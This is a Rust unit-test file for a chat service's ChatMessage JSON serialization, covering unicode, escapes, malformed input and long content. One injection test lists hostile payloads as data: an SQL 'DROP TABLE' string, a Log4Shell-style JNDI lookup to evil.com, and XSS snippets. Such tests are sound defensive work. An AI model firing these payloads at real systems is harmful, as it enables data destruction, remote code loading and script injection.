use realtime_service::chat_message::ChatMessage;

#[test]
fn test_chat_message_serialization() {
    let msg = ChatMessage { content: "Hello, World!".to_string() };

    let serialized = msg.to_json();
    assert!(serialized.contains("\"content\":\"Hello, World!\""));
}

#[test]
fn test_chat_message_deserialization() {
    let json = r#"{"msg_type":"text","content":"Test message"}"#;
    let msg = ChatMessage::from_json(json).expect("Failed to deserialize");

    assert_eq!(msg.content, "Test message");
}

#[test]
fn test_chat_message_deserialization_missing_fields() {
    let json = r#"{"msg_type":"text"}"#;
    let result = ChatMessage::from_json(json);

    assert!(result.is_err(), "Should fail when content field is missing");
}

#[test]
fn test_chat_message_with_unicode() {
    let msg = ChatMessage { content: "Hello 世界 🌍".to_string() };

    let serialized = msg.to_json();
    let deserialized = ChatMessage::from_json(&serialized).unwrap();

    assert_eq!(deserialized.content, "Hello 世界 🌍");
}

#[test]
fn test_chat_message_with_special_characters() {
    let msg = ChatMessage { content: r#"Special: <script>alert("xss")</script>"#.to_string() };

    let serialized = msg.to_json();
    let deserialized = ChatMessage::from_json(&serialized).unwrap();

    assert_eq!(deserialized.content, r#"Special: <script>alert("xss")</script>"#);
}

#[test]
fn test_chat_message_empty_content() {
    let msg = ChatMessage { content: "".to_string() };

    let serialized = msg.to_json();
    let deserialized = ChatMessage::from_json(&serialized).unwrap();

    assert_eq!(deserialized.content, "");
}

#[test]
fn test_chat_message_very_long_content() {
    let long_content = "A".repeat(1_000_000);
    let msg = ChatMessage { content: long_content.clone() };

    let serialized = msg.to_json();
    let deserialized = ChatMessage::from_json(&serialized).unwrap();
    assert_eq!(deserialized.content.len(), 1_000_000);
}

#[test]
fn test_chat_message_malformed_json() {
    let malformed = r#"{"msg_type":"text","content":"unclosed string"#;
    let result = ChatMessage::from_json(malformed);

    assert!(result.is_err());
}

#[test]
fn test_chat_message_injection_attempts() {
    let injection_payloads = vec![
        r#"{"msg_type":"text\"; DROP TABLE users;--","content":"hack"}"#,
        r#"{"msg_type":"text","content":"${jndi:ldap://evil.com/a}"}"#,
        r#"{"msg_type":"text","content":"<img src=x onerror=alert(1)>"}"#,
    ];

    for payload in injection_payloads {
        let result = ChatMessage::from_json(payload);
        if result.is_ok() {
            println!("Injection payload accepted: {}", payload);
        }
    }
}

#[test]
fn test_chat_message_null_bytes() {
    let msg = ChatMessage { content: "Hello\0World".to_string() };

    let serialized = msg.to_json();
    let deserialized = ChatMessage::from_json(&serialized).unwrap();

    assert!(deserialized.content.contains('\0'));
}

#[test]
fn test_chat_message_matches_reference_reader() {
    let cases = vec![
        "Hello, World!",
        "",
        "line\nbreak\tand\rcontrol\u{0001}",
        "quote \" and backslash \\",
        "unicode 世界 🌍",
    ];
    for content in cases {
        let msg = ChatMessage { content: content.to_string() };
        let serialized = msg.to_json();
        let value: serde_json::Value = serde_json::from_str(&serialized)
            .expect("a written frame must be a JSON document");
        assert_eq!(value["content"].as_str().unwrap(), content);
        let back = ChatMessage::from_json(&serialized).unwrap();
        assert_eq!(back.content, content);
    }
}

#[test]
fn test_chat_message_unicode_escapes_read_back() {
    let msg = ChatMessage::from_json(r#"{"content":"aA\né🌍"}"#).unwrap();
    assert_eq!(msg.content, "aA\n\u{e9}\u{1F30D}");

    assert!(ChatMessage::from_json(r#"{"content":"\ud83c"}"#).is_err(), "lone surrogate");
    assert!(ChatMessage::from_json(r#"{"content":"\q"}"#).is_err(), "unknown escape");
}
